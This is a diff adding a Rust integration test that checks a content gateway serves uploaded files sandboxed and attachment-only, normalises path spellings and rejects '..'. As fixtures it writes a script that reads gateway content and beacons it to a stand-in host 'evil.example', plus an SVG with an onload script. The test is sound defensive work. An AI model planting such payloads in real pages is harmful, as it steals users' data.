@@ -206,7 +206,7 @@ async fn requests_beyond_the_limit_are_shed_and_slow_answers_time_out() {
                 }
             }),
         )
-        .route("/never", get(|| futures::future::pending::<&str>()));
+        .route("/never", get(futures::future::pending::<&str>));
     let mut no_timeout = limits.clone();
     no_timeout.request_timeout = GENEROUS * 10;
     let (addr, stop, _task) = server(app.clone(), no_timeout).await;
@@ -234,4 +234,85 @@ async fn requests_beyond_the_limit_are_shed_and_slow_answers_time_out() {
     let r = send(addr, "GET", "/fast", &[], Vec::new()).await;
     assert_eq!(r.status, 200);
     stop.send(true).expect("stop");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn play_answers_run_in_no_origin_and_paths_have_one_spelling() {
+    use streamspace_node::gateway::{CacheStats, Keyring, router_with_keys};
+    use streamspace_shard::crypto::ContentKey;
+    let repo = tempfile::tempdir().expect("dir");
+    let node = common::node(repo.path()).await;
+    // An encrypted directory: a page that would read other items' plaintext if it ran in
+    // the gateway's origin, an image that can carry script, and a video.
+    let dir = tempfile::tempdir().expect("dir");
+    let page = b"<script>fetch('/play/').then(r => r.text()).then(t => navigator.sendBeacon('//evil.example', t))</script>";
+    std::fs::write(dir.path().join("page.html"), page).expect("write");
+    std::fs::write(dir.path().join("pic.svg"), b"<svg onload=\"alert(1)\"/>").expect("write");
+    let video = common::data(5_000, 2);
+    std::fs::write(dir.path().join("v.mp4"), &video).expect("write");
+    let key = ContentKey::generate();
+    let root = streamspace_shard::store::add_encrypted_dir(
+        Some(node.transport().store().as_ref()),
+        dir.path().to_owned(),
+        key.clone(),
+        ImportOptions::default().with_cid_version(1).expect("v1"),
+    )
+    .await
+    .expect("add")
+    .cid;
+    let app = router_with_keys(
+        node.transport().clone(),
+        Arc::new(CacheStats::default()),
+        Arc::new(Keyring::from([(root, key)])),
+    );
+    let (addr, stop, _task) = server(app, HttpLimits::default()).await;
+
+    for name in ["page.html", "pic.svg"] {
+        let r = send(
+            addr,
+            "GET",
+            &format!("/play/{root}/{name}"),
+            &[],
+            Vec::new(),
+        )
+        .await;
+        assert_eq!(r.status, 200, "{name}");
+        assert_eq!(r.headers["content-security-policy"], "sandbox", "{name}");
+        assert_eq!(r.headers["content-disposition"], "attachment", "{name}");
+        let ty = r.headers["content-type"].to_str().expect("type");
+        assert!(!ty.contains("html") && !ty.contains("svg"), "{name}: {ty}");
+        assert_eq!(r.headers["x-content-type-options"], "nosniff");
+    }
+    // The viewer still gets the video to play inline, sandboxed too.
+    let r = send(addr, "GET", &format!("/play/{root}/v.mp4"), &[], Vec::new()).await;
+    assert_eq!(r.status, 200);
+    assert_eq!(r.headers["content-type"], "video/mp4");
+    assert_eq!(r.headers["content-security-policy"], "sandbox");
+    assert!(r.headers.get("content-disposition").is_none());
+    assert_eq!(r.body.as_ref(), video.as_slice());
+    // Other spellings of the same file open it with the same key.
+    for spelling in ["/v.mp4", "//v.mp4", "/./v.mp4", "/.//v.mp4/"] {
+        let r = send(
+            addr,
+            "GET",
+            &format!("/play/{root}{spelling}"),
+            &[],
+            Vec::new(),
+        )
+        .await;
+        assert_eq!(r.status, 200, "{spelling}");
+        assert_eq!(r.body.as_ref(), video.as_slice(), "{spelling}");
+    }
+    // `..` is refused, not resolved.
+    let r = send(
+        addr,
+        "GET",
+        &format!("/play/{root}/x/../v.mp4"),
+        &[],
+        Vec::new(),
+    )
+    .await;
+    assert_eq!(r.status, 400);
+    stop.send(true).expect("stop");
+    node.shutdown().await.expect("shutdown");
 }
